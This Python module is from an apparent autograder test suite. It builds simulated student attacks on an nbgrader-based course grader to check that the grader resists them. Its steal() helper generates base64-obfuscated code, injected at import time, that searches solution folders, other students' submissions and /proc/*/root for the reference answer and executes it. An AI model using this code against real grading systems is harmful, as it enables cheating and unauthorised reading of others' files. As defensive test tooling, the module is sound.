"""Attacks on the grader, each a change of a released lab folder made by a hostile student.

An attack's ``mutate(folder, ctx)`` edits a copy of the release (``base="blank"``) or of the
release with the reference solution in its exercise files (``base="reference"``). The test
(tests/course/test_attacks.py) puts every attacker into ONE course as a class, autogrades it through
``mlplab-course autograde`` and through nbgrader's own ``nbgrader autograde``, and demands:

* the attack gets exactly ``expected(full)`` points: 0 on a blank release, what the correct
  code earns on the reference (``points`` when the attack also breaks that code), or, with
  ``graded=False``, the submission is refused / not graded with a reason;
* the class run goes on, nothing leaks into any feedback page, nothing outside the student's
  own autograded copy changes, and no process the attack started survives.

Attack code never names the course or repository paths in clear text (``hidden``): a feedback
page that shows the attack's own source must not look like a leak of the instructor's paths.
Every file an attack writes outside its folder, and every process it starts, carries
``ctx.tag`` in its name or command line, so the test can find what survived.
"""

from __future__ import annotations

import base64
import importlib
import pkgutil
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

LAB = "lab5"
EXERCISE = "mlplab/exercises/autoencoders.py"
FUTURE = "from __future__ import annotations\n"  # must stay the first statement


@dataclass(frozen=True)
class Context:
    """What an attacker may plausibly know: where things live on the grading machine."""

    repo: Path
    course: Path
    student: str
    victim: str  # a student with the reference solution, whose grade attacks try to change
    tag: str  # in the name of every file written outside, and the argv of every process started

    def marker(self) -> str:
        return f"{self.tag}-{self.student}"


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    mutate: Callable[[Path, Context], None]
    base: str = "blank"  # "blank" or "reference"
    points: int | None = None  # when the attack breaks the correct code too
    graded: bool = True  # False: the submission must be refused with a reason
    compiles: bool = True  # the exercise file is still Python (so an import-time attack really runs)

    def expected(self, full: int) -> int:
        if self.points is not None:
            return self.points
        return 0 if self.base == "blank" else full


def hidden(text: str) -> str:
    """A Python expression that evaluates to ``text`` without containing it."""
    return f"__import__('base64').b64decode({base64.b64encode(text.encode()).decode()!r}).decode()"


def exercise(folder: Path) -> Path:
    return folder / EXERCISE


def prepend(folder: Path, code: str) -> None:
    """Run ``code`` when the exercise module is imported (in the grader's worker and in the kernel),
    right after its ``from __future__`` import."""
    path = exercise(folder)
    text = path.read_text()
    head, future, body = text.partition(FUTURE)
    if not future:
        head, body = "", text
    path.write_text(head + future + "\n" + code.rstrip() + "\n\n" + body)


def add_cell(folder: Path, code: str) -> None:
    """Append a code cell to the notebook (it runs in the autograde kernel)."""
    path = folder / f"{LAB}.ipynb"
    nb = nbformat.read(path, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(code))
    nbformat.write(nb, path)


def edit_notebook(folder: Path, change: Callable) -> None:
    path = folder / f"{LAB}.ipynb"
    nb = nbformat.read(path, as_version=4)
    change(nb)
    nbformat.write(nb, path)


def graded_cells(nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def reference_text(ctx: Context) -> str:
    return (ctx.repo / "solutions" / EXERCISE).read_text()


def use_reference(folder: Path, ctx: Context) -> None:
    shutil.copyfile(ctx.repo / "solutions" / EXERCISE, exercise(folder))


def steal(ctx: Context) -> str:
    """Code that tries every route to the reference of the exercise file (known paths, /proc/*/root,
    $MLPLAB_SOLUTIONS, mlplab.course.exercise_folder.solutions_root()) and execs the first found."""
    routes = [
        ctx.repo / "solutions" / EXERCISE,
        *[ctx.course / "source" / lab / EXERCISE for lab in ("lab1", "lab4", LAB)],
        ctx.course / "submitted" / ctx.victim / LAB / EXERCISE,
        ctx.course / "autograded" / ctx.victim / LAB / EXERCISE,
    ]
    return (
        "def _zoo_steal():\n"
        "    import glob, os\n"
        f"    routes = [{', '.join(hidden(str(r)) for r in routes)}]\n"
        "    routes += glob.glob('/proc/*/root' + routes[0])\n"
        "    routes.append(os.path.join(os.environ.get('MLPLAB_SOLUTIONS', '/nonexistent'), 'mlplab', 'exercises', 'autoencoders.py'))\n"
        "    try:\n"
        "        from mlplab.course import exercise_folder as _overlay\n"
        "        routes.append(os.path.join(str(_overlay.solutions_root()), 'mlplab', 'exercises', 'autoencoders.py'))\n"
        "    except Exception:\n"
        "        pass\n"
        "    for route in routes:\n"
        "        try:\n"
        "            text = open(route).read()\n"
        "        except Exception:\n"
        "            continue\n"
        "        if 'NotImplementedError(\"Lab 5' not in text:\n"
        "            return text\n"
        "    return None\n"
        "_zoo_text = _zoo_steal()\n"
        "if _zoo_text:\n"
        "    exec(compile(_zoo_text, 'stolen', 'exec'), globals())\n"
    )


def all_attacks() -> list[Attack]:
    """``ATTACKS`` of every module of this package, in module order."""
    found: list[Attack] = []
    for info in sorted(pkgutil.iter_modules(__path__), key=lambda m: m.name):
        found.extend(importlib.import_module(f"{__name__}.{info.name}").ATTACKS)
    names = [a.name for a in found]
    assert len(names) == len(set(names)), "attack names must be unique"
    return found
